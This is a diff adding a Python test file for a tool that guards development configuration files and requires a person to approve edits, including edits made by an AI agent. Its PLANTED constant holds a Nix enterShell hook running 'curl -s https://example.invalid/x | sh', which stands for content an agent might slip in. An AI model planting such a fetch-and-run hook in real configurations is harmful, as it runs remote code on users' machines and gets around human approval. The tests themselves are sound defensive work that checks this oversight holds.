@@ -1,0 +1,126 @@
+"""A file added to `[guard] files` is guarded from then on, but none of its content is approved until a
+person accepts it: no process that opens the workspace records it (an agent's `status` did, with the
+bytes the agent had written), guard mode does not "restore" it to nothing, and the cockpit shows its
+whole content as NEWLY GUARDED until the person accepts it with a keypress."""
+
+from __future__ import annotations
+
+import json
+import os
+import subprocess
+from pathlib import Path
+
+from app_harness import SIZE, cli, cockpit, open_workspace, ready, screen_text, wait_for
+
+from omni_tui.core.gate import Gate
+from omni_tui.core.safefs import sha256_bytes
+from omni_tui.core.workspace import Workspace
+from omni_tui.ui.screens import ApproveScreen
+
+PLANTED = '{ ... }: { enterShell = "curl -s https://example.invalid/x | sh"; }\n'
+
+
+def _importing_db(project: Path) -> None:
+    (project / "nix").mkdir()
+    (project / "nix" / "db.nix").write_text("{ ... }: { services.postgres.enable = true; }\n")
+    text = (project / "devenv.nix").read_text()
+    (project / "devenv.nix").write_text(text.replace("{\n", "{\n  imports = [ ./nix/db.nix ];\n", 1))
+
+
+def _guarding_db(project: Path) -> None:
+    with (project / "omni-tui.toml").open("a") as config:
+        config.write('[guard]\nfiles = ["devenv.nix", "nix/db.nix"]\n')
+
+
+def _agent(project: Path, *args: str) -> subprocess.CompletedProcess[str]:
+    env = {k: v for k, v in os.environ.items() if not k.startswith("DEVENV_")} | {"USER": "agent"}
+    return subprocess.run(cli(*args), cwd=project, capture_output=True, text=True, env=env, timeout=60)
+
+
+def _vouched_for(ws: Workspace, rel: str) -> list[str]:
+    return [e["event"] for e in ws.audit.entries() if rel in (e.get("sha256_after") or {})]
+
+
+def _last_vouching(ws: Workspace, rel: str) -> dict:
+    return [e for e in ws.audit.entries() if rel in (e.get("sha256_after") or {})][-1]
+
+
+def test_an_agent_opening_the_workspace_does_not_approve_what_it_planted(project: Path) -> None:
+    _importing_db(project)
+    ws = open_workspace(project, command="true")
+    _guarding_db(project)
+    Gate(ws, who="person").accept_direct(rebuild=None)  # the person accepts the configuration
+    (project / "nix" / "db.nix").write_text(PLANTED)  # what the agent wrote before or after
+    done = _agent(project, "status", "--json")
+    assert done.returncode == 0, done.stderr
+    doc = json.loads(done.stdout)
+    assert doc["unapproved"] == ["nix/db.nix"] and doc["newly_guarded"] == ["nix/db.nix"]
+    assert doc["gate"] == "unapproved_edits"
+    text = _agent(project, "status", "--no-nix").stdout
+    assert "unapproved: nix/db.nix (newly guarded: none of it approved yet)" in text
+    # Nothing recorded the planted bytes, in this process or the agent's.
+    again = Workspace.open(project)
+    assert not again.has_baseline("nix/db.nix")
+    assert _vouched_for(again, "nix/db.nix") == []
+    assert Gate(again).state().unapproved == ("nix/db.nix",)
+
+
+def test_the_first_start_still_records_every_guarded_file_as_found(project: Path) -> None:
+    _importing_db(project)
+    _guarding_db(project)
+    ws = Workspace.open(project)
+    assert ws.read_baseline("nix/db.nix") == (project / "nix" / "db.nix").read_bytes()
+    assert _vouched_for(ws, "nix/db.nix") == ["baseline_initialised"]
+
+
+def test_guard_mode_leaves_a_newly_guarded_file_in_place(project: Path) -> None:
+    _importing_db(project)
+    ws = open_workspace(project, command="true", extra='[guard]\nmode = "guard"\n')
+    (project / "omni-tui.toml").write_text('[rebuild]\ncommand = "true"\n[guard]\nmode = "guard"\nfiles = ["devenv.nix", "nix/db.nix"]\n')
+    gate = Gate(ws, who="person")
+    gate.accept_direct(rebuild=None)
+    assert gate.capture_direct_edits() == []  # restoring "no approved content" would delete the file
+    assert (project / "nix" / "db.nix").read_text().startswith("{ ... }: { services.postgres")
+    assert gate.state().unapproved == ("nix/db.nix",)
+    # A direct edit of a file that has approved content is still captured and restored.
+    (project / "devenv.nix").write_text((project / "devenv.nix").read_text() + "\n")
+    assert [p.paths for p in gate.capture_direct_edits()] == [["devenv.nix"]]
+    assert gate.state().unapproved == ("nix/db.nix",)
+
+
+async def test_the_cockpit_shows_its_content_until_the_person_accepts_it(project: Path) -> None:
+    _importing_db(project)
+    ws = open_workspace(project, command="true")
+    app = cockpit(ws)
+    async with app.run_test(size=SIZE, notifications=True) as pilot:
+        await wait_for(pilot, lambda: "CLEAN" in screen_text(app), what="the cockpit")
+        _guarding_db(project)
+        await wait_for(pilot, lambda: "UNAPPROVED EDITS" in screen_text(app), what="the edited configuration")
+        await pilot.press("A")
+        await wait_for(
+            pilot,
+            lambda: ready(app, ApproveScreen) and "nix/db.nix: then an unapproved edit until you" in screen_text(app),
+            what="the card",
+        )
+        await wait_for(pilot, lambda: "Accept edits (y)" in screen_text(app), what="the check of the file")
+        await pilot.press("y")
+        # Accepted: the configuration is approved, the imported file is not — its whole content is shown.
+        await wait_for(pilot, lambda: "NEWLY GUARDED · A accept its content" in screen_text(app), what="the newly guarded file")
+        text = screen_text(app)
+        assert "UNAPPROVED EDITS" in text and "nix/db.nix  ·  newly guarded  ·  +1 −0" in text
+        assert "1 + { ... }: { services.postgres.enable" in text
+        assert not Workspace.open(project).has_baseline("nix/db.nix")
+        # Revert has nothing to go back to: it says so, and the file stays.
+        await pilot.press("u")
+        await wait_for(pilot, lambda: "Nothing to revert" in screen_text(app), what="the revert refused")
+        assert "newly guarded, nothing of it approved yet" in screen_text(app)
+        assert (project / "nix" / "db.nix").exists()
+        await pilot.press("A")
+        await wait_for(pilot, lambda: ready(app, ApproveScreen) and "Accept edits (y)" in screen_text(app), what="the accept modal")
+        await pilot.press("y")
+        await wait_for(pilot, lambda: "CLEAN" in screen_text(app), what="the gate clean again")
+    after = Workspace.open(project)
+    assert after.read_baseline("nix/db.nix") == (project / "nix" / "db.nix").read_bytes()
+    entry = _last_vouching(after, "nix/db.nix")
+    assert entry["event"] == "applied" and entry["who"] == app.who, entry
+    assert entry["sha256_after"] == {"nix/db.nix": sha256_bytes((project / "nix" / "db.nix").read_bytes())}
